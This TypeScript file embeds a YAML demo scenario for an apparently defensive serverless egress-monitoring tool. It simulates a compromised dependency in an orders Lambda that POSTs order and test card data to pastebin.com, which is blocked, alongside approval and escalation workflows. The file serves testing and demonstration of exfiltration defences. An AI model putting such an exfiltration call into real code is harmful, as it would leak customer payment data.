/**
 * The built-in scenario `npm start` runs, written in the public scenario format (see README.md)
 * so it is parsed by the same schema as a user's file and doubles as a complete example.
 */
export const DEFAULT_SCENARIO_YAML = `# A compromised dependency tries to exfiltrate from orders-api; payments-worker reaches a table its
# allow list does not cover; image-resizer calls an unknown host at night and nobody answers.
name: compromised dependency (built-in scenario)
description: >-
  orders-api serves normal traffic, then a poisoned dependency update posts order data to a paste
  site: the agent blocks it, the engine decides deny, the function is quarantined and later restored.
  payments-worker scans a table it never used: approval is requested, an unauthorized click is
  refused, an approver approves, and the time-bound exception is published signed to the policy store:
  on the next access the agent (block mode) lets the scan through and the engine decides allow. image-resizer, in
  monitor mode, calls an unlisted host; nobody acknowledges, so the escalation runs through every
  tier to its final action.
account: { id: "123456789012", region: us-east-1 }
start: 2026-11-23T09:00:00Z

hosts:
  api.stripe.com: { body: '{"id":"ch_3QdemoCharge","object":"charge","status":"succeeded"}' }
  pastebin.com: { body: 'https://pastebin.com/raw/Xy12AbCd', contentType: text/plain }
  api.fastly.com: { body: '{"status":"ok"}' }
  cdn-metrics.io: { body: '{"ok":true}' }

functions:
  orders-api:
    tags: { team: orders, "warden:protected": "true", tier: customer-facing }
    concurrency: 50
    role:
      tags: { team: orders, "warden:protected": "true" }
      managedPolicies: [arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole]
      inlinePolicies:
        orders-data:
          Version: "2012-10-17"
          Statement:
            - Effect: Allow
              Action: [dynamodb:GetItem, dynamodb:PutItem, dynamodb:Query]
              Resource: arn:aws:dynamodb:us-east-1:123456789012:table/orders
  payments-worker:
    tags: { team: payments, "warden:protected": "true" }
    concurrency: 10
    role:
      tags: { team: payments, "warden:protected": "true" }
      managedPolicies: [arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole]
      inlinePolicies:
        payments-data:
          Version: "2012-10-17"
          Statement:
            - Effect: Allow
              Action: [dynamodb:GetItem, dynamodb:PutItem, dynamodb:UpdateItem, dynamodb:Scan]
              Resource:
                - arn:aws:dynamodb:us-east-1:123456789012:table/payments
                - arn:aws:dynamodb:us-east-1:123456789012:table/customers
  image-resizer:
    tags: { team: media, "warden:protected": "true" }
    role:
      tags: { team: media, "warden:protected": "true" }
      managedPolicies: [arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole]

timeline:
  - at: 0s
    note: normal traffic — orders-api writes orders and charges cards, all on its allow list
  - at: 0s
    invoke: orders-api
    repeat: 5
    payload: { path: /orders, method: POST }
    calls:
      - aws: dynamodb:PutItem
        params: { TableName: orders, Item: { pk: { S: order-1001 }, total: { N: "42" } } }
        expect: ok
      - http: POST https://api.stripe.com/v1/charges
        body: amount=4200&currency=eur
        expect: ok
  - at: 2m
    note: a poisoned update of a dependency of orders-api starts posting order data to a paste site
  - at: 2m
    invoke: orders-api
    payload: { path: /orders, method: POST }
    calls:
      - aws: dynamodb:PutItem
        params: { TableName: orders, Item: { pk: { S: order-1002 }, total: { N: "17" } } }
        expect: ok
      - http: POST https://pastebin.com/api/api_post.php
        body: api_option=paste&api_paste_code=order-1002,4111111111111111,12/29
        expect: blocked
  - at: 3m
    note: payments-worker scans the customers table, which its allow list does not cover
  - at: 3m
    invoke: payments-worker
    calls:
      - aws: dynamodb:GetItem
        params: { TableName: payments, Key: { pk: { S: pay-77 } } }
        expect: ok
      - aws: dynamodb:Scan
        params: { TableName: customers, Limit: 10 }
  - at: 5m
    note: a workspace member who is not a payments approver clicks Approve
  - at: 5m
    click: { user: U0INTRUDER1, function: payments-worker, button: approve }
  - at: 9m
    click: { user: U0APPROVER1, function: payments-worker, button: approve }
  - at: 12m
    note: >-
      the approval published the exception, signed, to the policy store; the agent picked it up on its
      refresh, so the next scan goes through (block mode) and the engine decides allow under the same
      exception (no new request)
  - at: 12m
    invoke: payments-worker
    calls:
      - aws: dynamodb:Scan
        params: { TableName: customers, Limit: 10 }
        expect: ok
  - at: 20m
    note: at night, image-resizer (monitor mode) calls a host nobody listed; no one is watching Slack
  - at: 20m
    invoke: image-resizer
    calls:
      - http: POST https://api.fastly.com/service/thumbs/purge_all
        expect: ok
      - http: POST https://cdn-metrics.io/collect
        via: fetch
        body: '{"host":"image-resizer","ts":1}'
        expect: ok
  - at: 45m
    note: the security lead has investigated orders-api and restores it
  - at: 45m
    restore: { function: orders-api, by: U0SECLEAD1 }

expect:
  decisions:
    - { function: orders-api, verdict: allow }
    - { function: orders-api, verdict: deny, rule: paste-pastebin, response: quarantine }
    - { function: payments-worker, verdict: unlisted, response: approve }
    - { function: payments-worker, verdict: allow }
    - { function: image-resizer, verdict: unlisted, response: escalate }
  workflows:
    - { workflow: quarantine, function: orders-api }
    - { workflow: restore, function: orders-api }
    - { workflow: approval, function: payments-worker }
    - { workflow: escalate, function: image-resizer }
`;
